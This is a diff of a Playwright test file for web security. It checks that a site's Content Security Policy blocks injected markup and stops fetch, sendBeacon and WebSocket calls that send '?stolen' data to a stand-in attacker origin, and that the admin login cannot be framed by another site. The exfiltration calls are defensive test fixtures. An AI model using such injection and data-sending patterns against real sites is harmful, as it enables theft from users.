@@ -17,41 +17,44 @@ const INJECTIONS: Record<string, string> = {
   [`<video src="${ATTACKER}/a.mp4"></video>`]: 'media-src',
 };
 
-for (const path of ['/', '/admin/login']) {
-  test(`${path} blocks what an injection would try, and sends nothing to another origin`, async ({
-    page,
-    logged,
-  }) => {
-    const reached = await watchRequestsTo(page, ATTACKER);
-    await page.goto(path);
-    for (const [markup, directive] of Object.entries(INJECTIONS)) {
-      expect(await violatedBy(page, markup), markup).toBe(directive);
-    }
-    expect(await page.evaluate(() => 'stolen' in globalThis)).toBe(false);
-    await logged.expect([/ violates the following Content Security Policy directive/]);
+test('the site and the admin block what an injection would try, send nothing to another origin, and are shown in no frame', async ({
+  page,
+  logged,
+  baseURL,
+}) => {
+  const reached = await watchRequestsTo(page, ATTACKER);
+  for (const path of ['/', '/admin/login']) {
+    await test.step(path, async () => {
+      await page.goto(path);
+      for (const [markup, directive] of Object.entries(INJECTIONS)) {
+        expect(await violatedBy(page, markup), markup).toBe(directive);
+      }
+      expect(await page.evaluate(() => 'stolen' in globalThis)).toBe(false);
+      await logged.expect([/ violates the following Content Security Policy directive/]);
 
-    await page.evaluate(async (origin) => {
-      await fetch(`${origin}/?stolen`).catch(() => undefined);
-      navigator.sendBeacon(`${origin}/?stolen`);
-      new WebSocket(origin.replace('https', 'wss')).close();
-    }, ATTACKER);
-    const blocked = () => logged.lines.filter((line) => /^Connecting to '.*' violates/.test(line));
-    await expect.poll(blocked).toHaveLength(3);
-    await logged.expect([
-      /^Connecting to .* violates the following Content Security Policy directive/,
-      /^Fetch API cannot load /,
-    ]);
-    expect(reached).toEqual([]);
+      await page.evaluate(async (origin) => {
+        await fetch(`${origin}/?stolen`).catch(() => undefined);
+        navigator.sendBeacon(`${origin}/?stolen`);
+        new WebSocket(origin.replace('https', 'wss')).close();
+      }, ATTACKER);
+      const blocked = () =>
+        logged.lines.filter((line) => /^Connecting to '.*' violates/.test(line));
+      await expect.poll(blocked).toHaveLength(3);
+      await logged.expect([
+        /^Connecting to .* violates the following Content Security Policy directive/,
+        /^Fetch API cannot load /,
+      ]);
+      expect(reached).toEqual([]);
+    });
+  }
+  await test.step('no other site can show the login in a frame', async () => {
+    const attacker = 'http://127.0.0.1:7777/';
+    const body = `<iframe src="${baseURL}/admin/login"></iframe>`;
+    await page.route(attacker, (route) => route.fulfill({ contentType: 'text/html', body }));
+    await page.goto(attacker);
+    const frame = page.frames().find((candidate) => candidate !== page.mainFrame());
+    await expect.poll(() => frame?.url()).toBe('chrome-error://chromewebdata/');
   });
-}
-
-test('no other site can show the login in a frame', async ({ page, baseURL }) => {
-  const attacker = 'http://127.0.0.1:7777/';
-  const body = `<iframe src="${baseURL}/admin/login"></iframe>`;
-  await page.route(attacker, (route) => route.fulfill({ contentType: 'text/html', body }));
-  await page.goto(attacker);
-  const frame = page.frames().find((candidate) => candidate !== page.mainFrame());
-  await expect.poll(() => frame?.url()).toBe('chrome-error://chromewebdata/');
 });
 
 /** Injects the markup into the page; returns the directive that the browser reports as violated. */
